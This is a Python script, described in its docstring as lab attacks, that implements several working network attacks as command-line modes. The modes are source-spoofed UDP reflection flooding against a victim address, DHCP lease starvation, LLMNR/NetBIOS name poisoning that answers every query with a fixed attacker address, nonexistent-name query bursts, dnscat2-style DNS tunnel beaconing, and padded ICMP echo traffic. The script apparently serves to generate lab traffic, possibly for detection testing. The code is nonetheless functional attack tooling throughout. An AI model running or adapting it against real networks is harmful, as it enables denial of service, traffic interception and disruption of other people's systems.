#!/usr/bin/env python3
"""Attacks for the lab that no packaged tool makes.

forge VICTIM PORT HEX SECONDS RATE HOST...   questions to the port of each host, with the victim's address as their source
reflect PORT SIZE [HOST...]                  answers a datagram at these addresses, or any, of this host with that many bytes
dhcp COUNT RATE                              asks for leases for made-up clients, all from the one hardware address
poison SECONDS                               says to be whoever is asked for by LLMNR and by the names of NetBIOS
names COUNT                                  asks for names that nobody has, by LLMNR and NetBIOS
dnscat RESOLVER DOMAIN SECONDS               polls a server by names that hold bytes, as dnscat2 does
ping HOST COUNT PERIOD LEAST MOST            echo requests with that many bytes of a shell's traffic, more or less
"""
import random
import select
import socket
import struct
import sys
import time

what, rest = sys.argv[1], sys.argv[2:]
rnd = random.Random(7)


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def bound(port, host="0.0.0.0"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.bind((host, port))
    return s


def netbios(name):
    """The name in the first-level encoding of RFC 1001, 14.1."""
    return b"\x20" + b"".join(bytes([65 + (c >> 4), 65 + (c & 15)]) for c in name.upper().ljust(15).encode() + b"\0") + b"\0"


if what == "forge":
    victim, port, data = rest[0], int(rest[1]), bytes.fromhex(rest[2])
    seconds, rate, hosts = float(rest[3]), float(rest[4]), rest[5:]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    end, number = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        udp = struct.pack("!HHHH", 40000 + number % 1000, port, 8 + len(data), 0) + data
        head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), number & 0xFFFF, 0, 64, 17, 0, socket.inet_aton(victim), socket.inet_aton(hosts[number % len(hosts)]))
        s.sendto(head + udp, (hosts[number % len(hosts)], 0))
        number += 1
        time.sleep(1 / rate)
elif what == "reflect":
    sockets = [bound(int(rest[0]), host) for host in rest[2:] or ["0.0.0.0"]]
    for s in sockets:
        s.setsockopt(socket.IPPROTO_IP, 8, 1)  # IP_PKTINFO, so that an answer comes from the address that was asked
    while True:
        for s in select.select(sockets, [], [])[0]:
            _, control, _, peer = s.recvmsg(2048, 64)
            s.sendmsg([rnd.randbytes(int(rest[1]))], [(socket.IPPROTO_IP, 8, bytes(4) + control[0][2][4:8] + bytes(4))], 0, peer)
elif what == "dhcp":
    s = bound(68)
    s.setsockopt(socket.SOL_SOCKET, 25, b"eth0\0")  # SO_BINDTODEVICE
    for _ in range(int(rest[0])):
        card = b"\x02" + rnd.randbytes(5)
        s.sendto(struct.pack("!BBBB4sHH16s6s10s192s", 1, 1, 6, 0, rnd.randbytes(4), 0, 0x8000, b"", card, b"", b"") + b"\x63\x82\x53\x63\x35\x01\x01\xff", ("255.255.255.255", 67))
        time.sleep(1 / float(rest[1]))
elif what == "poison":
    llmnr, nbns = bound(5355), bound(137)
    llmnr.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton("224.0.0.252") + socket.inet_aton("10.0.0.66"))
    for s in (llmnr, nbns):
        s.settimeout(0.05)
    end = time.monotonic() + float(rest[0])
    while time.monotonic() < end:
        for s, lifetime, data in ((llmnr, 30, b""), (nbns, 165, b"\0\0")):
            try:
                asked, peer = s.recvfrom(2048)
            except TimeoutError:
                continue
            if asked[2] & 0x80:
                continue
            question = asked[12:]
            name = question[: question.index(0) + 1]
            kind = question[len(name):len(name) + 4]
            data += socket.inet_aton("10.0.0.66")
            if s is llmnr:
                s.sendto(asked[:2] + b"\x80\0\0\1\0\1\0\0\0\0" + name + kind + name + kind + struct.pack("!IH", lifetime, len(data)) + data, peer)
            else:
                s.sendto(asked[:2] + b"\x85\0\0\0\0\1\0\0\0\0" + name + kind + struct.pack("!IH", lifetime, len(data)) + data, peer)
elif what == "names":
    llmnr, nbns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), bound(137)
    llmnr.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton("10.0.0.30"))
    for number in range(int(rest[0])):
        name = f"filesrv{number}"
        llmnr.sendto(rnd.randbytes(2) + b"\0\0\0\1\0\0\0\0\0\0" + bytes([len(name)]) + name.encode() + b"\0\0\1\0\1", ("224.0.0.252", 5355))
        nbns.sendto(rnd.randbytes(2) + b"\1\x10\0\1\0\0\0\0\0\0" + netbios(name) + b"\0\x20\0\1", ("10.0.0.255", 137))
        time.sleep(1.5)
elif what == "dnscat":
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    end = time.monotonic() + float(rest[2])
    while time.monotonic() < end:
        text = rnd.randbytes(rnd.randrange(9, 40)).hex()
        labels = [text[i:i + 62] for i in range(0, len(text), 62)] + rest[1].split(".")
        name = b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\0"
        s.sendto(rnd.randbytes(2) + b"\1\0\0\1\0\0\0\0\0\0" + name + struct.pack("!HH", rnd.choice((16, 5, 15)), 1), (rest[0], 53))
        time.sleep(1)
elif what == "ping":
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    for number in range(int(rest[1])):
        data = rnd.randbytes(rnd.randrange(int(rest[3]), int(rest[4])))
        head = struct.pack("!BBHHH", 8, 0, 0, 4711, number)
        s.sendto(head[:2] + struct.pack("!H", checksum(head + data)) + head[4:] + data, (rest[0], 0))
        time.sleep(float(rest[2]))
